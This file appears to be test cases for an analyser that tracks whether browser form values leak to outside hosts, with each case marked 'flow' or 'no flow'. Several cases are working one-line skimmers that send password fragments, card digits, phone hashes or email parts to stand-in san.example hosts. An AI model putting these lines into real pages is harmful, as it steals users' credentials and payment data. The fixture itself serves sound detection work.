//# length
// no flow
fetch('https://len.san.example/l?n=' + document.querySelector('input[type=password]').value.length);

//# slice-of-value
// flow: password > slice.san.example via fetch
// why: a part of the password is the password's
fetch('https://slice.san.example/l?n=' + document.querySelector('input[type=password]').value.slice(0, 3));

//# double-negation
// no flow
navigator.sendBeacon('https://bool.san.example/b', JSON.stringify({ filled: !!document.querySelector('input[type=email]').value }));

//# logical-or
// flow: email > or.san.example via beacon
// why: || hands on the value itself
navigator.sendBeacon('https://or.san.example/b', document.querySelector('input[type=email]').value || 'none');

//# logical-and-constant
// no flow
// why: && gives the constant if the value is there, else the empty text
navigator.sendBeacon('https://and.san.example/b', document.querySelector('input[type=email]').value && 'filled');

//# comparison-of-two
// no flow
const p = document.querySelectorAll('input[type=password]');
fetch('https://cmp.san.example/c', { method: 'POST', body: JSON.stringify({ match: p[0].value === p[1].value }) });

//# ternary-constants
// no flow
const pw = document.querySelector('input[type=password]').value;
const strength = pw.length < 8 ? 'weak' : /\d/.test(pw) ? 'good' : 'fair';
fetch('https://str.san.example/s?is=' + strength);

//# typeof
// no flow
new Image().src = 'https://typeof.san.example/t?' + typeof document.querySelector('input[type=tel]').value;

//# hash-is-no-sanitiser
// flow: phone > hash.san.example via fetch
// why: few numbers are possible, a hash names one
function fnv(s) { let h = 2166136261; for (const c of s) h = Math.imul(h ^ c.codePointAt(0), 16777619); return (h >>> 0).toString(36); }
fetch('https://hash.san.example/h?' + fnv(document.querySelector('input[type=tel]').value));

//# card-last-four
// flow: card > mask.san.example via fetch
const pan = document.querySelector('input[autocomplete=cc-number]').value;
fetch('https://mask.san.example/m', { method: 'POST', body: '**** **** **** ' + pan.slice(-4) });

//# email-domain
// flow: email > dom.san.example via fetch
// why: a part of the address
const dom = document.querySelector('input[type=email]').value.split('@')[1];
fetch('https://dom.san.example/mx?d=' + dom);

//# regex-test
// no flow
const okTel = /^\+?\d{7,15}$/.test(document.querySelector('input[type=tel]').value);
navigator.sendBeacon('https://test.san.example/t', 'ok=' + okTel);

//# regex-match
// flow: phone > match.san.example via beacon
const mm = document.querySelector('input[type=tel]').value.match(/^\+(\d{1,3})/);
navigator.sendBeacon('https://match.san.example/t', 'cc=' + (mm ? mm[1] : ''));

//# index-of
// no flow
const hasAt = document.querySelector('input[type=email]').value.indexOf('@') > 0;
fetch('https://idx.san.example/i?at=' + Number(hasAt));

//# validity-object
// no flow
const val = document.querySelector('input[type=password]').validity;
fetch('https://vld.san.example/v', { method: 'POST', body: JSON.stringify({ short: val.tooShort, missing: val.valueMissing }) });

//# validation-message
// no flow
// why: the browser's text about the field
const em = document.querySelector('input[type=password]');
if (!em.reportValidity()) fetch('https://vmsg.san.example/v', { method: 'POST', body: em.validationMessage });

//# parse-int
// flow: postal-code > num.san.example via fetch
// why: a number made of the text is still the text
const plz = parseInt(document.querySelector('input[autocomplete=postal-code]').value, 10);
fetch('https://num.san.example/z/' + plz);

//# error-list
// no flow
// why: the names of the wrong fields
const bad = [...document.querySelectorAll('input[type=email], input[type=tel]')].filter((i) => !i.value).map((i) => i.name);
navigator.sendBeacon('https://bad.san.example/e', bad.join());
